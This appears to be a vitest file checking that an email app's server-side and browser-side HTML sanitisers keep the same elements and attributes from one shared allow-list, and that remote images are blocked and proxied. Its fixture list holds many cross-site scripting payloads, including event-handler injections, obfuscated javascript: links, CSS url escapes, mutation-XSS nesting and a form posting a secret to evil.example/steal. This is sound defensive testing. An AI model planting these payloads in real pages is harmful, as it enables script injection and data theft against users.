/**
 * One HTML allow-list (src/shared/html-allow-list.ts) for the server's sanitiser (sanitize-html,
 * src/platform/security/html-sanitize.ts) and the browser's (DOMPurify, web/src/lib/sanitizeEmail.ts).
 * Hostile and ordinary email fixtures go through both, the browser's in the real Chromium the other
 * browser tests use; what survives must be the same elements with the same attributes and values.
 *
 * Each fixture is given inside a <div>: at the very start of a document a browser parses in "in head"
 * mode (a leading <noscript> closes before its <p>), which htmlparser2 under sanitize-html does not
 * do; that is a parser difference, not a list difference.
 *
 * Differences that are deliberate and compared away: the browser adds `referrerpolicy` and `loading`
 * to images it shows, and replaces an image it does not show with its alt text (the server keeps the
 * <img> without a src).
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { build } from 'vite';
import { sanitizeEmailHtml as serverSanitize } from '../../src/platform/security/html-sanitize.js';
import { EMAIL_ALLOWED_TAGS, EMAIL_ATTRIBUTES_BY_TAG, EMAIL_GLOBAL_ATTRIBUTES } from '../../src/shared/html-allow-list.js';
import { hasChromium, launchChromium, REPO } from './support.js';

const EVIL = 'https://evil.example';

const FIXTURES: string[] = [
  // Ordinary email.
  `<div style="font-family: Georgia, serif" dir="ltr" lang="en"><p align="center">Hello <b>Ada</b>, <i>see</i> <a href="https://acme.example/order?id=1&amp;x=2" title="order">your order</a>.</p></div>`,
  `<table border="1" cellpadding="6" cellspacing="0" width="600" bgcolor="#ffffff" summary="s" frame="box" rules="all"><caption>c</caption><colgroup span="2"><col span="1"></colgroup><thead><tr><th scope="col" abbr="q" colspan="2" nowrap>Item</th></tr></thead><tbody><tr valign="top"><td rowspan="1" headers="h" background="${EVIL}/td.png">Vial</td></tr></tbody><tfoot><tr><td>t</td></tr></tfoot></table>`,
  `<font color="#b42318" face="Arial" size="3">red</font><hr size="1" noshade color="#ccc"><ol start="3" type="a" reversed><li value="4" type="i">x</li></ol><ul type="disc"><li>y</li></ul>`,
  `<blockquote type="cite"><p>quoted</p></blockquote><time datetime="2026-03-02">2 March</time><pre>code</pre><q>q</q><s>s</s><u>u</u><sub>1</sub><sup>2</sup><wbr>`,
  `<img src="${EVIL}/photo.jpg" alt="[photo]" width="200" height="100" border="0" hspace="2" vspace="2"><img src="cid:logo@acme" alt="logo"><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`,
  `<a href="mailto:ada@acme.example">mail</a> <a href="#top">top</a> <a href="//acme.example/pr">protocol-relative</a> <a href="tel:+123">tel</a> <a href="cid:part@x">cid</a>`,
  `<div style="color: red; background: url('${EVIL}/bg.png'); position: fixed; margin: 0 auto">styled</div><span style="font: 12px/1.5 sans-serif !important">s</span>`,
  // Hostile.
  `<p>Hello</p><script>alert('script')</script><style>p { color: red }</style>`,
  `<img src="x" onerror="alert(1)"><svg onload="alert(1)"><image href="${EVIL}/i.png"/></svg>`,
  `<body onload="alert(1)" background="${EVIL}/body.png"><p>body</p></body>`,
  `<details open ontoggle="alert(1)"><summary>s</summary>x</details>`,
  `<a href="javascript:alert(1)">js</a><a href=" jav&#x09;ascript&colon;alert(1)">js2</a><a href="data:text/html,<script>alert(1)</script>">data</a><a href="vbscript:msgbox(1)">vb</a>`,
  `<iframe src="${EVIL}/f"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e"><applet code="x"></applet>`,
  `<form action="${EVIL}/steal"><input name="q" value="secret"><button formaction="${EVIL}/fa">Go</button><select><option>o</option></select><textarea>t</textarea></form>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}"><base href="${EVIL}/"><link rel="stylesheet" href="${EVIL}/s.css"><p>x</p>`,
  `<div style="width: expression(alert(1)); behavior: url(${EVIL}/b.htc)">ie</div><div style="--x: url(${EVIL}/v.png); background: var(--x)">var</div><div style="background: u\\72l(${EVIL}/esc.png)">esc</div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><xmp><img src=x onerror=alert(1)></xmp><template><img src=x onerror=alert(1)></template>`,
  `<a id="x" class="y" name="z" href="${EVIL}/p" ping="${EVIL}/ping" target="_top" rel="opener" data-x="1" aria-label="l">attrs</a>`,
  `<img src="${EVIL}/x.png" srcset="${EVIL}/s.png 2x" lowsrc="javascript:alert(1)" data-blocked-src="${EVIL}/marker.png" referrerpolicy="unsafe-url">`,
  `<picture><source srcset="${EVIL}/s.png"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture><video poster="${EVIL}/p.png"><source src="${EVIL}/v.mp4"></video><audio src="${EVIL}/a.mp3"></audio>`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="svg"><img src="javascript:alert(1)" alt="js">`,
  `<x-custom onclick="alert(1)">custom</x-custom><center>c</center><main><nav><article><section><header>h</header><footer>f</footer></section></article></nav></main>`,
  `<!--[if gte mso 9]><img src="${EVIL}/mso.png"><![endif]--><p>mso</p><![CDATA[<script>alert(1)</script>]]>`,
];

/** Each element of cleaned markup as `tag attr="value" ...`, attributes sorted, in document order. */
const SIGNATURES = `(html) => {
  const doc = new DOMParser().parseFromString('<body>' + html + '</body>', 'text/html');
  return Array.from(doc.body.querySelectorAll('*')).map((el) => {
    const attrs = Array.from(el.attributes)
      .filter((a) => !(el.localName === 'img' && (a.name === 'referrerpolicy' || a.name === 'loading')))
      // sanitize-html re-serialises a style attribute without spaces (color:red;margin:0): compare declarations.
      .map((a) => a.name + '=' + JSON.stringify(a.name !== 'style' ? a.value : a.value.split(';').map((d) => d.trim()).filter(Boolean).map((d) => d.slice(0, d.indexOf(':')).trim() + ':' + d.slice(d.indexOf(':') + 1).trim()).join(';')))
      .sort();
    return [el.localName, ...attrs].join(' ');
  }).filter((s) => !/^img(?!.* src=)/.test(s));
}`;

let browser: Browser;
let page: Page;

beforeAll(async () => {
  if (!hasChromium) return;
  // The browser's sanitiser exactly as the app bundles it, as one script exposing its module.
  const out = await build({
    configFile: false,
    logLevel: 'warn',
    root: REPO,
    build: { write: false, minify: false, lib: { entry: `${REPO}/web/src/lib/sanitizeEmail.ts`, formats: ['iife'], name: 'MailroomSanitize' } },
  });
  const code = (Array.isArray(out) ? out[0]! : (out as { output: Array<{ code?: string }> })).output[0]!.code!;
  browser = await launchChromium();
  page = await browser.newPage();
  await page.setContent('<!doctype html><html><head></head><body></body></html>');
  await page.addScriptTag({ content: code });
}, 120_000);

afterAll(async () => {
  await browser?.close();
});

async function inBrowser(html: string, allowRemoteImages: boolean): Promise<{ bodyHtml: string; unstable: boolean; signatures: string[] }> {
  return page.evaluate(
    `(() => {
      const r = window.MailroomSanitize.sanitizeEmailHtml(${JSON.stringify(html)}, { allowRemoteImages: ${allowRemoteImages}, proxyUrl: (u) => u });
      return { bodyHtml: r.bodyHtml, unstable: r.unstable, signatures: (${SIGNATURES})(r.bodyHtml) };
    })()`,
  );
}

const signaturesOf = (html: string): Promise<string[]> => page.evaluate(`(${SIGNATURES})(${JSON.stringify(html)})`);

describe.skipIf(!hasChromium)('one HTML allow-list for the server and the browser', () => {
  test.each(FIXTURES.map((html, i) => [i, `<div>${html}</div>`] as const))('fixture %i: both keep the same elements and attributes', async (_i, html) => {
    const server = serverSanitize(html, { allowRemoteImages: true });
    const browserSide = await inBrowser(html, true);
    expect(browserSide.unstable).toBe(false);
    expect(browserSide.signatures).toEqual(await signaturesOf(server));
  });

  test('what survives is on the shared list, in both', async () => {
    const allowed = (tag: string, attr: string) => EMAIL_GLOBAL_ATTRIBUTES.includes(attr) || Boolean(EMAIL_ATTRIBUTES_BY_TAG[tag]?.includes(attr));
    const seenTags = new Set<string>();
    for (const html of FIXTURES) {
      for (const signatures of [await signaturesOf(serverSanitize(html, { allowRemoteImages: true })), (await inBrowser(html, true)).signatures]) {
        for (const s of signatures) {
          const tag = s.split(' ')[0]!;
          seenTags.add(tag);
          expect(EMAIL_ALLOWED_TAGS, s).toContain(tag);
          for (const [, name] of s.matchAll(/ ([a-z-]+)="/g)) expect(allowed(tag, name!), `${name} on <${tag}>`).toBe(true);
        }
      }
    }
    expect(seenTags.size).toBeGreaterThan(30);
  });

  test("remote images held back by the server (its markers) are held back, counted and proxied by the browser", async () => {
    const server = serverSanitize(`<img src="${EVIL}/a.png" alt="a"><table background="${EVIL}/t.png"><tr><td>x</td></tr></table>`, { allowRemoteImages: false });
    expect(server).toContain('data-blocked-src');
    const hidden = await page.evaluate(`window.MailroomSanitize.sanitizeEmailHtml(${JSON.stringify(server)}, { allowRemoteImages: false, proxyUrl: (u) => 'https://app.example/proxy?url=' + encodeURIComponent(u) })`);
    expect(hidden).toMatchObject({ blockedImages: 2, unstable: false });
    expect((hidden as { bodyHtml: string }).bodyHtml).not.toMatch(/evil|data-blocked/);
    const shown = (await page.evaluate(`window.MailroomSanitize.sanitizeEmailHtml(${JSON.stringify(server)}, { allowRemoteImages: true, proxyUrl: (u) => 'https://app.example/proxy?url=' + encodeURIComponent(u) })`)) as { bodyHtml: string };
    expect(shown.bodyHtml).toContain(`src="https://app.example/proxy?url=${encodeURIComponent(`${EVIL}/a.png`)}"`);
    expect(shown.bodyHtml).toContain(`background="https://app.example/proxy?url=${encodeURIComponent(`${EVIL}/t.png`)}"`);
    expect(shown.bodyHtml).not.toContain('data-blocked');
  });
});
